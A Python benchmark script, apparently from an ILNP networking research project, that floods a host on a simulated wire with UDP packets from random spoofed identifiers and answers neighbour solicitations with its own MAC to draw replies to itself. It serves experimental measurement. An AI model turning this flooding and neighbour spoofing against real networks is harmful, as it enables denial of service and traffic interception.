"""An attacker: a process at the end of a wire that sends UDP with the nonce option, from random identifiers.

python -m bench.ilcc.attacker --wire PATH --router MAC --locator PREFIX --host ADDRESS --port N --seconds S --seed N

With `--rate R` it sends so many packets a second, without one as fast as the wire takes. At the end it prints how many
packets the wire took.
"""

from __future__ import annotations

import argparse
import random
import socket
import time
from ipaddress import IPv6Address, IPv6Network
from pathlib import Path

from wayname.ilnp.checksums import identifiers_checksum
from wayname.ilnp.nonce import LONG_NONCE, with_nonce
from wayname.ilnp.vectors import NID, Vector
from wayname.wire import discovery
from wayname.wire.ethernet import TYPE_IPV6, Frame
from wayname.wire.icmpv6 import NEIGHBOUR_SOLICITATION
from wayname.wire.ipv6 import ICMPV6, UDP, Packet
from wayname.wire.mac import Mac

ATTACKER = Mac.parse("02:66:00:00:00:01")
# Octets of data, so that a packet has 102 as the paper's.
DATA = bytes(24)
# Packets that are made beforehand; who sends more begins again.
MOST_FRAMES = 50_000
# That are sent, without a rate, before what came is looked at.
AT_ONCE = 64


def attack(rng: random.Random, locator: IPv6Network, host: IPv6Address, port: int) -> Packet:
    """Return a packet of the flood; its checksum is right, so that the host takes it."""
    source = Vector(Vector.of(locator.network_address).locator, NID(rng.getrandbits(64) | 1)).address
    head = (1000).to_bytes(2) + port.to_bytes(2) + (8 + len(DATA)).to_bytes(2)
    checksum = identifiers_checksum(source, host, UDP, head + bytes(2) + DATA)
    return with_nonce(Packet(source, host, UDP, head + checksum.to_bytes(2) + DATA), rng.randbytes(LONG_NONCE))


def flood(wire: socket.socket, frames: list[bytes], rate: float | None, seconds: float) -> int:
    """Send for so long; return how many packets left."""
    began, sent = time.monotonic(), 0
    wire.setblocking(False)
    while (passed := time.monotonic() - began) < seconds:
        due = sent + AT_ONCE if rate is None else int(rate * passed) + 1
        while sent < due and time.monotonic() - began < seconds:
            try:
                wire.send(frames[sent % len(frames)])
                sent += 1
            except BlockingIOError:
                time.sleep(0.0005)
        _drain(wire)
        if rate is not None:
            time.sleep(min(0.01, 1 / rate))
    return sent


def _drain(wire: socket.socket) -> None:
    """Take what comes, and forget it; who asks for a neighbour's MAC gets ours, so that answers come here."""
    try:
        while frame := wire.recv(65536):
            if frame[20] == ICMPV6 and frame[54] == NEIGHBOUR_SOLICITATION:
                wire.send(_advertisement(Frame.decode(frame)))
    except BlockingIOError:
        return


def _advertisement(frame: Frame) -> bytes:
    asked = Packet.decode(frame.payload)
    solicitation = discovery.decode(asked)
    assert isinstance(solicitation, discovery.NeighbourSolicitation)
    message = discovery.NeighbourAdvertisement(solicitation.target, ATTACKER, solicited=True, override=True).message()
    answer = message.packet(solicitation.target, asked.source, 255)
    return Frame(frame.source, ATTACKER, TYPE_IPV6, answer.encode()).encode()


def main() -> None:
    """Attack."""
    parser = argparse.ArgumentParser(prog="bench.ilcc.attacker")
    parser.add_argument("--wire", type=Path, required=True)
    parser.add_argument("--router", type=Mac.parse, required=True)
    parser.add_argument("--locator", type=IPv6Network, required=True)
    parser.add_argument("--host", type=IPv6Address, required=True)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--seed", type=int, required=True)
    parser.add_argument("--rate", type=float)
    given = parser.parse_args()
    rng = random.Random(given.seed)
    count = MOST_FRAMES if given.rate is None else min(MOST_FRAMES, int(given.rate * given.seconds) + 1)
    packets = (attack(rng, given.locator, given.host, given.port) for _ in range(count))
    frames = [Frame(given.router, ATTACKER, TYPE_IPV6, packet.encode()).encode() for packet in packets]
    with socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET) as wire:
        wire.connect(str(given.wire))
        print("ready", flush=True)
        input()
        print(flood(wire, frames, given.rate, given.seconds), flush=True)


if __name__ == "__main__":
    main()
